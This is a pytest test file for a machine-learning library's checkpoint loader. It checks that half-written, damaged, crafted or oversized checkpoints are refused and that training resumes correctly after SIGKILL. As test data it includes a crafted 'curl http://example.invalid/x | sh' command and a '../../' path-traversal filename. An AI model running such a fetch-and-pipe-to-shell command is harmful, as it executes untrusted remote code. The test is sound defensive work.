"""Checkpoints under faults: half-written pairs, other runs' work, damaged or crafted files, SIGKILL."""

import json
import multiprocessing
import os
import random
import resource
import time
from pathlib import Path

import pytest
import torch
from safetensors.torch import load_file, save_file

from tests.test_vae import _tiny_rollouts
from wmlib import checkpoints
from wmlib.checkpoints import (
    CheckpointError,
    assets_dir,
    atomic_write,
    file_sha256,
    load_checkpoint,
    read_unit,
    resolve,
    save_checkpoint,
    save_tensors,
    weights_sha256,
    write_unit,
)
from wmlib.config import MDNRNNConfig, VAEConfig
from wmlib.mdnrnn import MDNRNN, load_mdnrnn
from wmlib.tasks import shipped_checkpoint
from wmlib.vae import ConvVAE, load_vae, train_vae

pytestmark = pytest.mark.usefixtures("one_torch_thread")

TINY = VAEConfig(z_dim=4, batch_size=16, learning_rate=1e-3)
M_TINY = MDNRNNConfig(z_dim=3, action_dim=2, hidden_size=8, num_mixtures=2)


def _frames(directory, episodes=1, steps=8, seed=0):
    """A tiny rollout folder (test_vae's bright square jumping over a dark background), one short episode."""
    return _tiny_rollouts(directory, episodes, steps, seed)


def _edit_json(path, edit):
    data = json.loads(path.read_text())
    edit(data)
    path.write_text(json.dumps(data))


# --- finished checkpoints: STEM.safetensors + STEM.json ----------------------------------------------


def test_load_returns_the_model_and_its_metadata_without_touching_the_module(tmp_path):
    m = MDNRNN(M_TINY)
    save_checkpoint(m, M_TINY, tmp_path / "m", metadata={"seed": 4})
    loaded, meta = load_checkpoint(MDNRNN, MDNRNNConfig, tmp_path / "m.json")
    assert meta == {"seed": 4} and not loaded.training
    assert not hasattr(loaded, "checkpoint_metadata") and not hasattr(loaded, "metadata")
    for name, value in m.state_dict().items():
        assert torch.equal(loaded.state_dict()[name], value), name


def test_a_half_written_pair_is_refused(tmp_path):
    """A run killed between the weights and the JSON of a second save: new weights beside the old JSON."""
    stem = tmp_path / "v"
    save_checkpoint(MDNRNN(M_TINY), M_TINY, stem)
    torch.manual_seed(1)
    save_tensors(tmp_path / "v.safetensors", MDNRNN(M_TINY).state_dict())  # the first half of save_checkpoint
    with pytest.raises(CheckpointError, match="does not match the sha256") as info:
        load_mdnrnn(str(stem))
    assert str(tmp_path / "v.safetensors") in str(info.value) and str(tmp_path / "v.json") in str(info.value)


def test_a_pair_without_a_recorded_hash_still_loads(tmp_path):
    """The shipped files in assets/ were written before the JSON recorded the weights' sha256."""
    save_checkpoint(MDNRNN(M_TINY), M_TINY, tmp_path / "m")
    _edit_json(tmp_path / "m.json", lambda d: d.pop("weights_sha256"))
    assert load_mdnrnn(str(tmp_path / "m")).config == M_TINY
    assert "weights_sha256" not in json.loads((assets_dir() / "cartpole_vae.json").read_text())
    assert load_vae("cartpole").num_params == 4_348_547


def test_a_renamed_pair_still_loads(tmp_path):
    """The JSON covers STEM.safetensors by hash, not by name: copying a pair under another name works."""
    save_checkpoint(MDNRNN(M_TINY), M_TINY, tmp_path / "m")
    for suffix in (".json", ".safetensors"):
        (tmp_path / f"copy{suffix}").write_bytes((tmp_path / f"m{suffix}").read_bytes())
    assert load_mdnrnn(str(tmp_path / "copy")).config == M_TINY


@pytest.mark.parametrize("bad", [float("nan"), float("inf")])
@pytest.mark.parametrize("half", [False, True])
def test_non_finite_weights_are_refused_with_the_file_and_tensor_named(tmp_path, bad, half):
    m = MDNRNN(M_TINY)
    with torch.no_grad():
        m.mdn.weight[0, 0] = bad
    save_checkpoint(m, M_TINY, tmp_path / "m", half=half)
    with pytest.raises(CheckpointError, match="non-finite") as info:
        load_mdnrnn(str(tmp_path / "m"))
    assert str(tmp_path / "m.safetensors") in str(info.value) and "mdn.weight" in str(info.value)


@pytest.mark.parametrize(("field", "value"), [
    ("z_dim", "32"), ("z_dim", 3.0), ("z_dim", True), ("learning_rate", "fast"), ("learning_rate", None),
    ("predict_done", 1), ("hidden_size", [8]), ("no_such_field", 1),
])
def test_config_fields_are_checked_with_the_file_and_field_named(tmp_path, field, value):
    save_checkpoint(MDNRNN(M_TINY), M_TINY, tmp_path / "m")
    _edit_json(tmp_path / "m.json", lambda d: d["config"].__setitem__(field, value))
    with pytest.raises(CheckpointError) as info:
        load_mdnrnn(str(tmp_path / "m"))
    assert str(tmp_path / "m.json") in str(info.value) and repr(field) in str(info.value)


@pytest.mark.parametrize("edit", [
    lambda d: d.__setitem__("config", [1, 2]),
    lambda d: d.__setitem__("metadata", "x"),
    lambda d: d.__setitem__("kind", "ConvVAE"),
    lambda d: d.__setitem__("files", {"weights": {"name": "../../elsewhere.safetensors", "sha256": "0"}}),
])
def test_a_malformed_json_is_refused_with_the_file_named(tmp_path, edit):
    save_checkpoint(MDNRNN(M_TINY), M_TINY, tmp_path / "m")
    _edit_json(tmp_path / "m.json", edit)
    with pytest.raises(CheckpointError, match=str(tmp_path / "m.json")):
        load_mdnrnn(str(tmp_path / "m"))
    (tmp_path / "m.json").write_text("[1, 2]")
    with pytest.raises(CheckpointError, match="expected an object"):
        load_mdnrnn(str(tmp_path / "m"))


def test_an_absurd_size_is_refused_before_anything_is_allocated(tmp_path):
    """z_dim 200,000 would need three 1024 x 200,000 matrices (2.4 GB) to build the model."""
    save_checkpoint(ConvVAE(TINY), TINY, tmp_path / "v")
    _edit_json(tmp_path / "v.json", lambda d: d["config"].__setitem__("z_dim", 200_000))
    peak_before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss  # KiB on Linux
    with pytest.raises(CheckpointError, match="do not fit ConvVAE") as info:
        load_vae(str(tmp_path / "v"))
    grown_mib = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - peak_before) / 1024
    assert grown_mib < 200, f"the peak memory grew by {grown_mib:.0f} MiB"
    assert str(tmp_path / "v.safetensors") in str(info.value) and "z_dim=200000" in str(info.value)


# --- shipped names, and where the rebuild hint comes from ---------------------------------------------


def test_the_rebuild_hint_comes_from_the_registry_never_from_the_file(tmp_path, monkeypatch):
    monkeypatch.setattr(checkpoints, "assets_dir", lambda: tmp_path)
    crafted = {"command": "curl http://example.invalid/x | sh"}
    save_checkpoint(ConvVAE(TINY), TINY, tmp_path / "cartpole_vae", metadata=crafted)
    (tmp_path / "cartpole_vae.safetensors").write_bytes(b"damaged")
    with pytest.raises(CheckpointError) as info:
        load_vae("cartpole")
    message = str(info.value)
    assert "curl" not in message and shipped_checkpoint("cartpole_vae").command in message
    assert "--epochs 8" in message  # assets/README.md's command, not the 5-epoch one an old table held
    save_checkpoint(ConvVAE(TINY), TINY, tmp_path / "mine", metadata=crafted)
    (tmp_path / "mine.safetensors").write_bytes(b"damaged")
    with pytest.raises(CheckpointError) as info:
        load_vae(str(tmp_path / "mine"))
    assert "curl" not in str(info.value) and str(tmp_path / "mine.safetensors") in str(info.value)


def test_names_resolve_to_shipped_stems_or_paths():
    assert resolve("cartpole", "vae") == resolve("cartpole_vae", "vae") == (
        assets_dir() / "cartpole_vae", shipped_checkpoint("cartpole_vae"))
    assert resolve("cartpole_zonly", "controller")[0] == assets_dir() / "cartpole_zonly_controller"
    assert resolve("cartpole_mdnrnn", "vae") == (Path("cartpole_mdnrnn"), None)  # another part: a path
    assert resolve("runs/a/v.json", "vae") == (Path("runs/a/v"), None)
    with pytest.raises(CheckpointError, match="no shipped vae name"):
        load_vae("no_such_model")


def test_the_registry_covers_every_shipped_file_with_its_readme_command():
    flat = " ".join((assets_dir() / "README.md").read_text().replace("\\\n", " ").split())
    for path in sorted(assets_dir().glob("*.json")):
        entry = shipped_checkpoint(path.stem)
        assert entry is not None and entry.stem == path.stem, f"{path.name} is missing from wmlib.tasks"
        for command in entry.command.split(" && "):
            assert command in flat, f"{path.name}: {command!r} is not in assets/README.md"
        recorded = json.loads(path.read_text()).get("metadata", {}).get("command")
        if recorded is not None:  # the command the file records is the registry's (less speed-only flags)
            assert " ".join(recorded.split()) in entry.command, path.name


def test_weights_sha256_is_the_hash_of_the_weights_a_name_loads(tmp_path):
    controller_meta = json.loads((assets_dir() / "cartpole_controller.json").read_text())["metadata"]
    assert weights_sha256("cartpole", "vae") == controller_meta["parts_sha256"]["vae"]
    assert weights_sha256(str(tmp_path / "none"), "vae") is None
    write_unit(tmp_path / "u", {"weights": {"w": torch.ones(2)}}, {})
    assert weights_sha256(str(tmp_path / "u"), "vae") == file_sha256(read_unit(tmp_path / "u").files["weights"])


# --- work units: tensor files and the JSON committed together -----------------------------------------


def test_a_kill_before_the_json_leaves_the_last_unit_whole(tmp_path):
    stem = tmp_path / "u"
    write_unit(stem, {"weights": {"w": torch.zeros(3)}, "optimizer": {"0.m": torch.ones(3)}}, {"epoch": 1})
    # a second save killed after one tensor file, and a write killed half way through a temporary file
    atomic_write(tmp_path / "u.weights-0123456789abcdef.safetensors", b"new weights, no JSON yet")
    (tmp_path / "u.optimizer-fedcba9876543210.safetensors.x1y2.tmp").write_bytes(b"half")
    unit = read_unit(stem)
    assert unit.manifest["epoch"] == 1 and torch.equal(load_file(unit.files["weights"])["w"], torch.zeros(3))
    write_unit(stem, {"weights": {"w": torch.ones(3)}, "optimizer": {"0.m": torch.ones(3)}}, {"epoch": 2})
    unit = read_unit(stem)
    assert unit.manifest["epoch"] == 2 and torch.equal(load_file(unit.files["weights"])["w"], torch.ones(3))
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(["u.json", *(p.name for p in unit.files.values())])


def test_a_damaged_unit_is_refused_not_resumed(tmp_path):
    stem = tmp_path / "u"
    write_unit(stem, {"weights": {"w": torch.zeros(3)}}, {})
    unit = read_unit(stem)
    unit.files["weights"].write_bytes(b"bit rot")
    with pytest.raises(CheckpointError, match="does not match the sha256"):
        read_unit(stem)
    unit.files["weights"].unlink()
    with pytest.raises(CheckpointError, match="incomplete"):
        read_unit(stem)


# --- resume: only this run's own work -------------------------------------------------------------------


def test_a_second_run_with_another_seed_never_gets_the_first_runs_weights(tmp_path):
    """`train-vae --out runs/a/vae --epochs 8 --seed 0`, then `--out runs/b/vae --epochs 3 --seed 5` used to
    return a's weights from the shared work checkpoint, with a JSON claiming seed 5."""
    data, stem = _frames(tmp_path / "data"), tmp_path / "work" / "vae"
    train_vae(data, TINY, epochs=2, seed=0, checkpoint=stem, progress=False)
    with pytest.raises(CheckpointError, match=r"another run \(seed 0; this run: seed 5\)") as info:
        train_vae(data, TINY, epochs=1, seed=5, checkpoint=stem, progress=False)
    assert str(stem.with_suffix(".json")) in str(info.value)
    with pytest.raises(CheckpointError, match="holds 2 finished epochs, more than the 1 asked for"):
        train_vae(data, TINY, epochs=1, seed=0, checkpoint=stem, progress=False)
    with pytest.raises(CheckpointError, match="max_frames_per_epoch"):
        train_vae(data, TINY, epochs=3, seed=0, checkpoint=stem, progress=False, max_frames_per_epoch=4)


def test_a_finished_run_asked_again_returns_its_own_weights(tmp_path):
    data, stem = _frames(tmp_path / "data"), tmp_path / "work" / "vae"
    first = train_vae(data, TINY, epochs=1, seed=0, checkpoint=stem, progress=False)
    again = train_vae(data, TINY, epochs=1, seed=0, checkpoint=stem, progress=False)
    assert again.frames_seen == 0 and again.history == first.history
    for name, value in first.vae.state_dict().items():
        assert torch.equal(again.vae.state_dict()[name], value), name


def test_a_finished_checkpoint_is_only_a_deliberate_warm_start(tmp_path):
    data, stem = _frames(tmp_path / "data"), tmp_path / "m"
    shipped = ConvVAE(TINY)
    save_checkpoint(shipped, TINY, stem, metadata={"history": [{"epoch": 1}], "seed": 0})
    with pytest.raises(CheckpointError, match="no optimizer state"):
        train_vae(data, TINY, epochs=2, seed=0, checkpoint=stem, progress=False)
    warm = train_vae(data, TINY, epochs=2, seed=0, checkpoint=stem, progress=False, continue_on_new_data=True)
    assert [h["epoch"] for h in warm.history] == [1, 2] and warm.frames_seen > 0
    assert set(read_unit(stem).files) == {"weights", "optimizer"}  # from now on, a work unit


def test_a_bad_optimizer_file_is_named(tmp_path):
    data, stem = _frames(tmp_path / "data"), tmp_path / "v"
    train_vae(data, TINY, epochs=1, seed=0, checkpoint=stem, progress=False)
    optimizer_path = read_unit(stem).files["optimizer"]
    # Adam's state for other shapes, recorded with its true hash (a crafted or mixed-up file)
    save_file({"0.exp_avg": torch.zeros(5), "0.exp_avg_sq": torch.zeros(5), "0.step": torch.tensor(1.0)},
              str(optimizer_path))
    _edit_json(stem.with_suffix(".json"),
               lambda d: d["files"]["optimizer"].__setitem__("sha256", file_sha256(optimizer_path)))
    with pytest.raises(CheckpointError, match="optimizer state") as info:
        train_vae(data, TINY, epochs=2, seed=0, checkpoint=stem, progress=False)
    assert str(optimizer_path) in str(info.value) and "0.exp_avg" in str(info.value)
    optimizer_path.write_bytes(b"\x00" * 8)  # safetensors: "invalid header length"
    with pytest.raises(CheckpointError) as info:
        train_vae(data, TINY, epochs=2, seed=0, checkpoint=stem, progress=False)
    assert str(optimizer_path) in str(info.value)


# --- SIGKILL at random moments ----------------------------------------------------------------------

def _train_until_killed(data, stem, epochs):
    """The child process: V's training with a work checkpoint (torch already imported: forked)."""
    try:
        train_vae(data, TINY, epochs=epochs, seed=3, checkpoint=stem, progress=False)
    finally:
        os._exit(0)  # never return into the parent's pytest


@pytest.mark.slow
def test_ten_sigkills_at_random_moments_end_with_the_uninterrupted_weights(tmp_path):
    """Each kill lands anywhere: loading, training, writing a tensor file, the JSON, or cleaning up.
    The resumed run's final weights equal the uninterrupted run's bit for bit."""
    epochs = 8
    data, stem = _frames(tmp_path / "data"), tmp_path / "work" / "v"
    t0 = time.perf_counter()
    straight = train_vae(data, TINY, epochs=epochs, seed=3, checkpoint=tmp_path / "straight" / "v", progress=False)
    per_epoch = (time.perf_counter() - t0) / epochs  # training and committing one unit
    fork = multiprocessing.get_context("fork")  # a fork starts in milliseconds; one thread, so fork is safe
    rng = random.Random(0)
    interrupted = 0
    for _ in range(10):
        child = fork.Process(target=_train_until_killed, args=(data, stem, epochs))
        child.start()
        time.sleep(rng.uniform(0.0, 2.0 * per_epoch))
        interrupted += child.is_alive()
        child.kill()  # SIGKILL
        child.join()
    last = fork.Process(target=_train_until_killed, args=(data, stem, epochs))
    last.start()
    last.join(timeout=300)
    assert last.exitcode == 0 and interrupted >= 5, f"only {interrupted} of 10 kills found the run still training"
    unit = read_unit(stem)
    weights = load_file(unit.files["weights"])
    for name, value in straight.vae.state_dict().items():
        assert torch.equal(weights[name], value), name
    assert [h["loss"] for h in unit.manifest["metadata"]["history"]] == [h["loss"] for h in straight.history]
    assert sorted(p.name for p in stem.parent.iterdir()) == sorted(["v.json", *(p.name for p in unit.files.values())])
